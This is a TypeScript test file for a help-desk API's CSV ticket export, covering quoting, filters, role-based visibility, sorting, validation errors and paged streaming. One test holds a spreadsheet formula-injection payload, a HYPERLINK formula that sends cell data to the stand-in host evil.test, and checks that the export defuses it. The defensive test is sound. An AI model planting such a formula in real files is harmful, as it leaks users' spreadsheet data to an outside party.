import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { createDb } from "../src/db/client";
import { EXPORT_COLUMNS, EXPORT_PAGE_SIZE, ticketCsvStream } from "../src/services/ticket-export";
import { insertBulkTickets } from "./bulk-tickets";
import { parseCsv, parseCsvObjects } from "./csv-parse";
import { api, createUser, expectError, registerOrg, type Session } from "./helpers";
import { addMember, createTeam, fileTicket, moveThrough, type Team } from "./ticket-fixtures";

let admin: Session;
let agent: Session;
let requester: Session;
let otherRequester: Session;
let ops: Team;
let desk: Team;

beforeAll(async () => {
  admin = await registerOrg("Export Co");
  [agent, requester, otherRequester] = await Promise.all([createUser(admin, "agent"), createUser(admin, "requester"), createUser(admin, "requester")]);
  ops = await createTeam(admin, "OPS");
  desk = await createTeam(admin, "DESK");
  await addMember(admin, ops.id, agent.user.id);
});

/** Exports as `session` and returns the records as objects, after checking the file's headers. */
async function exportCsv(session: Session, query = "") {
  const res = await api("GET", `/api/v1/tickets/export?format=csv${query}`, { token: session.accessToken });
  expect(res.status, res.text).toBe(200);
  expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  expect(res.headers.get("Content-Disposition")).toMatch(/^attachment; filename="tickets-\d{4}-\d{2}-\d{2}\.csv"$/);
  expect(res.headers.get("X-Request-Id")).toBeTruthy();
  expect(parseCsv(res.text)[0]).toEqual(EXPORT_COLUMNS.map(([name]) => name));
  return parseCsvObjects(res.text);
}

describe("exporting tickets as CSV", () => {
  it("round-trips a title holding a comma, a quote and a line break, and writes each column", async () => {
    const title = 'Printer, "the big one"\non floor 2';
    const ticket = await fileTicket(requester, ops.id, { title, description: "Line 1\r\nLine 2", tags: ["hardware", "floor-2"], customer: "Acme, Inc." });
    const rows = await exportCsv(admin, `&teamId=${ops.id}`);
    expect(rows.find((row) => row.id === ticket.id)).toEqual({
      id: ticket.id,
      key: ticket.key,
      title,
      status: "new",
      priority: "P3",
      category: "",
      team: "OPS",
      teamId: ops.id,
      assigneeId: "",
      requesterId: requester.user.id,
      customer: "Acme, Inc.",
      tags: "hardware;floor-2",
      createdAt: ticket.createdAt,
      updatedAt: ticket.updatedAt,
      firstRespondedAt: "",
      resolvedAt: "",
      closedAt: "",
      description: "Line 1\r\nLine 2",
    });
  });

  it("neutralizes a title a spreadsheet would run as a formula", async () => {
    const title = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")';
    const ticket = await fileTicket(requester, ops.id, { title, customer: "@boss" });
    const res = await api("GET", `/api/v1/tickets/export?teamId=${ops.id}`, { token: admin.accessToken });
    expect(res.text).not.toMatch(/(^|,|\r\n)"?=HYPERLINK/);
    const row = parseCsvObjects(res.text).find((r) => r.id === ticket.id)!;
    expect(row.title).toBe(`'${title}`);
    expect(row.customer).toBe("'@boss");
  });

  it("applies the list's filters: status and teamId", async () => {
    const [open, pending, fresh] = [await fileTicket(admin, desk.id), await fileTicket(admin, desk.id), await fileTicket(admin, desk.id)];
    await moveThrough(admin, open.id, ["open"]);
    await moveThrough(admin, pending.id, ["pending"]);
    const rows = await exportCsv(admin, `&teamId=${desk.id}&status=open,pending`);
    expect(rows.map((row) => row.id).sort()).toEqual([open.id, pending.id].sort());
    expect(rows.map((row) => row.status).sort()).toEqual(["open", "pending"]);
    const all = await exportCsv(admin, `&teamId=${desk.id}`);
    expect(all.map((row) => row.id)).toContain(fresh.id);
    expect(all.every((row) => row.team === "DESK")).toBe(true);
  });

  it("gives a requester their own tickets only, and an agent their teams'", async () => {
    const mine = await fileTicket(requester, desk.id, { title: "Mine" });
    const theirs = await fileTicket(otherRequester, desk.id, { title: "Theirs" });
    const own = await exportCsv(requester);
    expect(own.length).toBeGreaterThan(0);
    expect(own.every((row) => row.requesterId === requester.user.id)).toBe(true);
    expect(own.map((row) => row.id)).toContain(mine.id);
    expect(own.map((row) => row.id)).not.toContain(theirs.id);
    const agents = await exportCsv(agent);
    expect(agents.length).toBeGreaterThan(0);
    expect(agents.every((row) => row.teamId === ops.id)).toBe(true);
  });

  it("sorts like the list", async () => {
    const rows = await exportCsv(admin, `&teamId=${desk.id}&sort=createdAt`);
    const times = rows.map((row) => row.createdAt);
    expect(times).toEqual([...times].sort());
    const newest = await exportCsv(admin, `&teamId=${desk.id}`);
    expect(newest.map((row) => row.id)).toEqual(rows.map((row) => row.id).reverse());
  });

  it("writes only the header when nothing matches", async () => {
    const res = await api("GET", `/api/v1/tickets/export?teamId=${desk.id}&status=closed`, { token: admin.accessToken });
    expect(res.status).toBe(200);
    expect(res.text).toBe(`${EXPORT_COLUMNS.map(([name]) => name).join(",")}\r\n`);
  });
});

describe("refusals", () => {
  it("answers 401 without a token", async () => {
    expectError(await api("GET", "/api/v1/tickets/export?format=csv"), 401, "E_UNAUTHORIZED");
  });

  it("answers 400 naming format for any format but csv, and naming an unknown parameter", async () => {
    const xml = expectError(await api("GET", "/api/v1/tickets/export?format=xml", { token: admin.accessToken }), 400, "E_VALIDATION");
    expect(xml.details.issues?.map((issue) => issue.path)).toEqual(["format"]);
    const bad = expectError(await api("GET", "/api/v1/tickets/export?limit=5&status=lost", { token: admin.accessToken }), 400, "E_VALIDATION");
    expect(bad.details.issues?.map((issue) => issue.path).sort()).toEqual(["limit", "status"].sort());
  });

  it("is described in the OpenAPI document as text/csv", async () => {
    const doc = (await api("GET", "/openapi.json")).json;
    expect(Object.keys(doc.paths["/api/v1/tickets/export"].get.responses["200"].content)).toEqual(["text/csv"]);
  });
});

describe("a large export", () => {
  const COUNT = 1_200;
  let bulk: Team;

  beforeAll(async () => {
    bulk = await createTeam(admin, "BULK");
    await insertBulkTickets(bulk.id, requester.user.id, COUNT);
  });

  it("streams every ticket exactly once across several pages", async () => {
    const rows = await exportCsv(admin, `&teamId=${bulk.id}&sort=createdAt`);
    expect(rows).toHaveLength(COUNT);
    expect(new Set(rows.map((row) => row.id)).size).toBe(COUNT);
    expect(rows.map((row) => row.key)).toEqual(Array.from({ length: COUNT }, (_, i) => `BULK-${i + 1}`));
  });

  it("reads one page of D1 per chunk rather than the whole list at once", async () => {
    const caller = { id: admin.user.id, orgId: admin.user.orgId, role: "admin" as const, email: admin.user.email, name: "Ada" };
    const stream = await ticketCsvStream({ db: createDb(env.DB), caller }, { teamId: bulk.id }, { field: "createdAt", descending: false });
    const reader = stream.getReader();
    const chunkRows: number[] = [];
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) chunkRows.push(parseCsv(new TextDecoder().decode(chunk.value)).length);
    const pages = Math.ceil(COUNT / EXPORT_PAGE_SIZE);
    expect(chunkRows).toEqual(Array.from({ length: pages }, (_, i) => (i < pages - 1 ? EXPORT_PAGE_SIZE : COUNT - EXPORT_PAGE_SIZE * (pages - 1)) + (i === 0 ? 1 : 0)));
  });

  it("keeps the team's counter in step, so the next ticket filed takes the next key", async () => {
    expect((await fileTicket(admin, bulk.id)).key).toBe(`BULK-${COUNT + 1}`);
  });
});
